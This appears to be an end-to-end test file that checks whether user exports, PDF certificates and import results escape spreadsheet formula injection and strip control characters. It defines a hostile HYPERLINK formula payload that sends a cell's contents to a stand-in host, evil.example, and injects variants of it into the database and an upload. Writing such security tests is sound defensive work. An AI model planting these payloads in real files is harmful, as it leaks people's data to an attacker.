"""Files out of the running stack stay safe whatever the stored text holds: names stored
before the API refused control characters (written here straight into reporting's
read model, where the API now refuses them), and the cells of an upload, which come
back in its results.csv. Each hostile value starts with ``= + - @ \\t \\r``, alone or
behind a control character."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import UTC, date, datetime
from typing import Any

import asyncpg
import pytest
from openpyxl import load_workbook
from pypdf import PdfReader
from sqlalchemy.engine import make_url

from tests.e2e.import_support import csv_file, results, run_import
from tests.e2e.users_table_support import users_url
from tests.support import Admin, Api, wait_for

pytestmark = pytest.mark.e2e

STARTS = ("=", "+", "-", "@", "\t", "\r")
# NUL cannot be stored by PostgreSQL, so no legacy row holds one; the others can.
CONTROLS = ("\x01", "\x07", "\x0b", "\x1b", "\x1f", "\x7f", "\x85", "\x9b", "\u2028")
PAYLOAD = 'HYPERLINK("http://evil.example/?leak="&B2,"Click")'
HOSTILE = [s + PAYLOAD for s in STARTS] + [c + s + PAYLOAD for s in STARTS for c in CONTROLS]
ALL_CONTROLS = [chr(c) for c in (*range(0x20), *range(0x7F, 0xA0))] + ["\u2028", "\u2029"]


def check_cell(cell: str) -> None:
    assert not any(c in cell for c in ALL_CONTROLS), repr(cell)
    assert not cell.lstrip(" ").startswith(STARTS), repr(cell)


def _dsn(stack: Any, service: str) -> str:
    url = make_url(stack.database_url(service)).set(drivername="postgresql")
    return url.render_as_string(hide_password=False)


@pytest.fixture(scope="module")
async def legacy(api: Api, stack: Any) -> Admin:
    """A department whose read model holds hostile names, employee IDs and group names,
    and a certificate for a person with a hostile name."""
    if stack is None:
        pytest.skip("writes to reporting's database")
    admin = await api.create_department()
    await api.wait_reported(admin, admin.email)
    conn = await asyncpg.connect(_dsn(stack, "reporting"))
    department = uuid.UUID(admin.department_id)
    now = datetime.now(UTC)
    try:
        groups = [uuid.uuid4() for _ in HOSTILE]
        await conn.executemany(
            "INSERT INTO groups (group_id, department_id, name, updated_at)"
            " VALUES ($1, $2, $3, $4)",
            [(g, department, v, now) for g, v in zip(groups, HOSTILE, strict=True)],
        )
        await conn.executemany(
            "INSERT INTO users (department_id, account_id, name, sort_name, email, role, status,"
            " employee_id, groups, joined_at, updated_at) "
            "VALUES ($1, $2, $3, $4, $5, 'member', 'active', $6, $7, $8, $8)",
            [
                (department, uuid.uuid4(), v, v.casefold(), f"p{i}@example.org", v, [g], now)
                for i, (v, g) in enumerate(zip(HOSTILE, groups, strict=True))
            ],
        )
        await conn.execute(
            "UPDATE users SET name = $3 WHERE department_id = $1 AND account_id = $2",
            department,
            uuid.UUID(admin.account_id),
            "\x01=Ada\u2028Admin",
        )
        await conn.execute(
            "INSERT INTO training_completions (department_id, account_id, certificate_id,"
            " course_id, title, completed_on, hours, credits, updated_at)"
            " VALUES ($1, $2, 'cert-legacy', 'cpr', $3, $4, 4.5, 0, $5)",
            department,
            uuid.UUID(admin.account_id),
            "\x1b+CPR\x07 and AED",
            date(2026, 11, 20),
            now,
        )
        await conn.execute(
            "UPDATE departments SET name = $2 WHERE department_id = $1",
            department,
            "\x85@Springfield EMS",
        )
    finally:
        await conn.close()
    return admin


async def _export(api: Api, admin: Admin, fmt: str) -> bytes:
    r = await api.http.get(
        users_url(api, admin.department_id, "/export"),
        params={"format": fmt},
        headers=admin.headers,
    )
    assert r.status_code == 200, r.text
    return r.content


async def test_the_csv_export_of_legacy_names_is_safe(api: Api, legacy: Admin) -> None:
    body = (await _export(api, legacy, "csv")).decode("utf-8-sig")
    _, *lines = list(csv.reader(io.StringIO(body, newline="")))
    assert len(lines) == len(HOSTILE) + 1
    for line in lines:
        for cell in line[:6]:
            check_cell(cell)
    names = {line[0] for line in lines}
    assert "'=Ada Admin" in names and "'" + "=" + PAYLOAD in names


async def test_the_xlsx_export_of_legacy_names_has_no_formula(api: Api, legacy: Admin) -> None:
    book = load_workbook(io.BytesIO(await _export(api, legacy, "xlsx")))
    assert book.active is not None
    _, *rows = list(book.active.iter_rows())
    assert len(rows) == len(HOSTILE) + 1
    for row in rows:
        for cell in row[:6]:
            assert cell.data_type != "f", cell.value
            if cell.value is not None:
                assert cell.data_type == "s"
                check_cell(str(cell.value))


async def test_the_certificate_shows_legacy_names_without_control_characters(
    api: Api, legacy: Admin
) -> None:
    r = await api.http.get(
        api.url(
            "reporting",
            f"/v1/reports/departments/{legacy.department_id}/users/{legacy.account_id}"
            "/certificates/cert-legacy",
        ),
        headers=legacy.headers,
    )
    assert r.status_code == 200 and r.headers["content-type"] == "application/pdf", r.text
    reader = PdfReader(io.BytesIO(r.content))
    text = reader.pages[0].extract_text()
    assert "=Ada Admin" in text and "+CPR and AED" in text and "@Springfield EMS" in text
    assert not any(c in text for c in ALL_CONTROLS if c != "\n"), repr(text)
    meta = reader.metadata
    assert meta is not None
    for value in (meta.title, meta.author, meta.subject):
        assert value is not None and not any(c in value for c in ALL_CONTROLS), repr(value)


async def test_results_csv_of_hostile_cells_is_safe_and_their_rows_invalid(api: Api) -> None:
    admin = await api.create_department()
    tag = uuid.uuid4().hex[:8]
    rows = [[v, f"h{i}-{tag}@example.org", v] for i, v in enumerate(HOSTILE)]
    rows.append(["Nul\x00Name", f"nul-{tag}@example.org", "x"])
    rows.append(["Ana Lima", f"ana-{tag}@example.org", "\x01=notes are not read"])
    data = csv_file([["Name", "Email", "\x01=Notes"], *rows])
    status = await run_import(api, admin, data)
    got = await results(api, admin, status["import_id"])
    header, *lines = got
    for line in got:
        for cell in line:
            check_cell(cell)
    assert header[3] == "'=Notes"
    by_email = {line[2]: line for line in lines}
    nul = by_email[f"nul-{tag}@example.org"]
    assert nul[1] == "Nul\ufffdName" and nul[-2] == "invalid"
    assert nul[-1].startswith("name contains a control character (U+0000 (NUL))")
    for i, value in enumerate(HOSTILE):
        line = by_email[f"h{i}-{tag}@example.org"]
        kept = value.strip()  # what a reader of the file keeps: whitespace at the edges goes
        if kept[0] in CONTROLS:
            assert (line[-2], line[-1][:28]) == ("invalid", "name contains a control char")
        elif kept[0] in STARTS:
            assert line[-2] == "invalid" and "formula" in line[-1], line
        else:  # a tab or CR in front: trimmed away, nothing dangerous is left
            assert line[-2] == "created" and kept == PAYLOAD, line
    assert by_email[f"ana-{tag}@example.org"][-2] == "created", "a column nobody reads"

    async def shown() -> bool:
        users = await api.report_users(admin)
        return any(u["email"] == f"ana-{tag}@example.org" for u in users)

    await wait_for(shown, what="the valid row in the users table")
